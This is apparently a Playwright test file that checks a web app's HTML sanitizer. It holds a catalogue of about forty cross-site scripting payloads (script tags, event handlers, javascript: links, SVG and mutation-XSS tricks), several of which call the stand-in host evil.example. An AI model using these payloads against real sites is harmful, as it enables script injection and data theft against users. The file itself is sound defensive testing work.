import { expect, expectAccessible, test } from '@companion/testkit/browserTest';
import { nextFrames } from '@companion/testkit/nextFrames';
import { stageContent } from '@companion/testkit/stageContent';
import type { TestServer } from '@companion/testkit/testServer';
import type { Page } from '@playwright/test';

/** An attack that runs marks its document or calls this host. */
const RUN = "document.documentElement.setAttribute('data-pwned','yes')";
const HOME = 'https://evil.example';

/** Known attacks, each with a different technique. */
const ATTACKS: Record<string, string> = {
  script: `<script>${RUN}</script>`,
  'script from elsewhere': `<script src="${HOME}/x.js"></script>`,
  'script of a module': `<script type="module">${RUN}</script>`,
  'script in pieces': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'handler of a picture': `<img src=x onerror="${RUN}">`,
  'handler without quotes': `<img/src=x/onerror=${RUN.replaceAll("'", '&apos;')}>`,
  'handler of a drawing': `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  'script in a drawing': `<svg><script>${RUN}</script></svg>`,
  'link of a drawing': `<svg><a xlink:href="javascript:${RUN}"><text y="20">draw</text></a></svg>`,
  'use of a drawing': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"></use></svg>`,
  'handler that waits': `<p onclick="${RUN}" onpointerenter="${RUN}" onfocus="${RUN}" tabindex="0" autofocus>wait</p>`,
  'details that open': `<details open ontoggle="${RUN}"><summary>open</summary></details>`,
  'javascript link': `<a href="javascript:${RUN}">go</a>`,
  'javascript link with blanks': `<a href=" \t\n java\tscript:${RUN}">go</a>`,
  'javascript link in entities': `<a href="&#106;avascript&colon;${RUN}">go</a>`,
  'vbscript link': `<a href="vbscript:msgbox(1)">go</a>`,
  'data link': `<a href="data:text/html,<script>opener.${RUN}</script>">go</a>`,
  'link to another server that looks like a path':
    '<a href="//evil.example/a">go</a><a href="/\\evil.example/b">go</a>',
  'link with a ping': `<a href="/agenda" ping="${HOME}/ping" download target="_top">go</a>`,
  frame: `<iframe src="javascript:parent.${RUN}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'object and embed': `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  base: `<base href="${HOME}/"><a href="agenda">go</a>`,
  'refresh by meta': `<meta http-equiv="refresh" content="0;url=${HOME}/meta">`,
  'style sheet': `<style>@import url(${HOME}/s.css); * { background: url(${HOME}/s.png) }</style>`,
  'style sheet by link': `<link rel="stylesheet" href="${HOME}/l.css">`,
  'style of an element': `<p style="position:fixed;inset:0;background:url(${HOME}/p.png)">cover</p>`,
  'picture that calls home': `<img src="${HOME}/i.png" srcset="${HOME}/j.png 2x"><video poster="${HOME}/v.png"></video>`,
  'background of a table': `<table background="${HOME}/t.png"><tr><td background="${HOME}/d.png">cell</td></tr></table>`,
  form: `<form action="${HOME}/form"><input name="phone" autofocus onfocus="${RUN}"><button>Sign in</button></form>`,
  'form from outside': `<button form="x" formaction="javascript:${RUN}">Go</button><input type="image" src=x onerror="${RUN}">`,
  'clobbered names':
    '<img name="getElementById"><a id="root" href="/x">a</a><form name="body"><input name="attributes"></form>',
  'clobbered by two': '<a id="defaultView"></a><a id="defaultView" name="x" href="/clobbered"></a>',
  'names that styles use':
    '<p class="route-login" id="main" data-menu="none" role="alert" aria-live="assertive">name</p>',
  'mutation: math and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'mutation: form in form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  'mutation: noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'mutation: comment': `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
  'mutation: select': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  'mutation: xmp and textarea': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  'mutation: deep': `${'<div>'.repeat(600)}<table><svg><style><img src=x onerror="${RUN}"></style></svg></table>`,
  'instruction and section': `<?xml-stylesheet href="javascript:${RUN}"?><![CDATA[<img src=x onerror="${RUN}">]]>`,
  template: `<template shadowrootmode="open"><script>${RUN}</script><slot></slot></template>`,
  'element of its own': `<x-y is="x-y" onfocus="${RUN}" tabindex=0 autofocus>own</x-y>`,
  'marks of a template': "{{constructor.constructor('document.documentElement.dataset.pwned=1')()}}",
};

const ELEMENTS = 'p,br,strong,b,em,i,a,ul,ol,li,h2,h3,h4,blockquote,hr,code,table,thead,tbody,tr,th,td'.split(',');
const ATTRIBUTES = ['href', 'rel', 'target'];

const AFTER = 'The text after it.';

/** Written to the table, bypassing the server's sanitizer. */
const storeBody = ({ services: { db } }: TestServer, id: string, body: string) =>
  db
    .updateTable('content')
    .set({ body: `${body}<p>${AFTER}</p>` })
    .where('id', '=', id)
    .execute();

async function showBody(page: Page, server: TestServer, body: string): Promise<void> {
  await storeBody(server, 'talk', body);
  // The server caches the content list for a second.
  server.clock.advance(1_000);
  await page.goto('/agenda/agenda/talk');
  await expect(page.getByLabel('Your comment')).toBeVisible();
  await expect(page.locator('[data-html]')).toBeAttached();
}

/** Goes to an item without loading the page again, as a step back or forward does. */
async function goTo(page: Page, address: string, title: string): Promise<void> {
  await page.evaluate((to) => {
    history.pushState(null, '', to);
    dispatchEvent(new PopStateEvent('popstate'));
  }, address);
  await expect(page.getByRole('heading', { level: 1, name: title, exact: true })).toBeVisible();
  await expect(page.locator('[data-html]')).toBeAttached();
  await nextFrames(page);
}

/** The rendered body. */
const shown = (page: Page) =>
  page.locator('[data-html]').evaluate((root) => {
    const all = [...root.querySelectorAll('*')];
    return {
      elements: [...new Set(all.map((element) => element.localName))],
      attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
      addresses: [...root.querySelectorAll('a[href]')].map((link) => link.getAttribute('href') ?? ''),
    };
  });

for (const bypassCSP of [false, true]) {
  test.describe(bypassCSP ? 'without the content security policy' : 'under the content security policy', () => {
    // The sanitizer parses a body in an inert document, whose contents the policy reports.
    test.use({ bypassCSP, expectedErrors: bypassCSP ? [] : ['Content Security Policy'] });

    test(`HTML bodies: nothing in them runs, loads, posts or sets a name, ${bypassCSP ? 'even without' : 'with'} the policy`, async ({
      page,
      context,
      server,
    }) => {
      const attacks = Object.entries(ATTACKS).map(([name, body], index) => ({ name, body, id: `attack-${index}` }));
      await stageContent(
        server,
        attacks.map(({ id, name }) => ({ id, title: name })),
      );
      for (const { id, body } of attacks) await storeBody(server, id, body);
      await server.signIn(page);
      const callsHome: string[] = [];
      await context.route(`${HOME}/**`, (route) => {
        callsHome.push(route.request().url());
        return route.abort();
      });
      page.on('dialog', (dialog) => {
        callsHome.push(dialog.message());
        void dialog.dismiss();
      });
      const title = await page.goto('/dashboard').then(() => page.title());

      for (const { name, id } of attacks) {
        const address = `/agenda/agenda/${id}`;
        await goTo(page, address, name);
        const { elements, attributes, addresses } = await shown(page);
        expect(
          elements.filter((element) => !ELEMENTS.includes(element)),
          name,
        ).toEqual([]);
        expect(
          attributes.filter((attribute) => !ATTRIBUTES.includes(attribute)),
          name,
        ).toEqual([]);
        expect(
          addresses.filter((address) => !/^\/(?![/\\])/.test(address)),
          name,
        ).toEqual([]);
        // Interact with everything that is left.
        await page.locator('[data-html]').evaluate((root) => {
          for (const element of root.querySelectorAll<HTMLElement>('*')) {
            element.dispatchEvent(new PointerEvent('pointerenter'));
            element.focus();
            if (!element.closest('a')) element.click();
          }
        });
        expect(await page.evaluate(() => document.documentElement.hasAttribute('data-pwned')), name).toBe(false);
        expect(callsHome, name).toEqual([]);
        await expect(page, name).toHaveURL(address);
      }
      expect(title).not.toBe('');
    });
  });
}

test('HTML bodies: text, lists, tables and links keep their markup', async ({ page, server }) => {
  await stageContent(server, [{ id: 'talk' }]);
  await server.signIn(page);
  await showBody(
    page,
    server,
    `<h2>Part</h2><p>One <strong>strong</strong> <em>soft</em> <code>code</code></p><ul><li>First</li></ul>
     <table><thead><tr><th>Head</th></tr></thead><tbody><tr><td>Cell</td></tr></tbody></table><blockquote>Said</blockquote><pre><code>if (a) {
  b
}</code></pre>
     <p><a href="https://example.com/a">out</a></p><p><a href="mailto:help@example.com">mail</a></p>
     <p><a href="tel:+12025550100">call</a></p><p><a href="/agenda">in</a></p>`,
  );
  await expect(page.getByRole('heading', { name: 'Part' })).toBeVisible();
  await expect(page.getByRole('columnheader', { name: 'Head' })).toBeVisible();
  await expect(page.getByRole('blockquote')).toHaveText('Said');
  expect(await page.locator('[data-html] pre').innerText()).toBe('if (a) {\n  b\n}');
  const link = (name: string) => page.locator('[data-html]').getByRole('link', { name });
  await expect(link('out')).toHaveAttribute('target', '_blank');
  await expect(link('out')).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(link('mail')).toHaveAttribute('href', 'mailto:help@example.com');
  await expect(link('call')).toHaveAttribute('href', 'tel:+12025550100');
  await expect(link('in')).not.toHaveAttribute('target');
  await expectAccessible(page);
});

test('HTML bodies: show as plain text without the sanitizer, and if it fails', async ({ page, server }) => {
  await stageContent(server, [{ id: 'talk' }]);
  await server.signIn(page);
  await page.route('**/assets/purify*', (route) => route.abort());
  await showBody(
    page,
    server,
    `<h2>Part</h2><p>One <b>strong</b> word &amp; more</p><script>${RUN}</script><style>p{}</style><img src=x onerror="${RUN}">`,
  );
  const body = page.locator('[data-html]');
  await expect(body).toHaveText(`Part\nOne strong word & more\n${AFTER}`, { useInnerText: true });
  expect(await body.evaluate((root) => root.childElementCount)).toBe(0);
  expect(await page.evaluate(() => document.documentElement.hasAttribute('data-pwned'))).toBe(false);

  await page.unroute('**/assets/purify*');
  // The sanitizer needs this function and reports itself as unsupported without it.
  await page.addInitScript(() => {
    Object.defineProperty(Document.prototype, 'implementation', { get: () => ({}) });
  });
  await showBody(page, server, `<p>Words</p><img src=x onerror="${RUN}">`);
  await expect(body).toHaveText(`Words\n${AFTER}`, { useInnerText: true });
  expect(await page.evaluate(() => document.documentElement.hasAttribute('data-pwned'))).toBe(false);
});
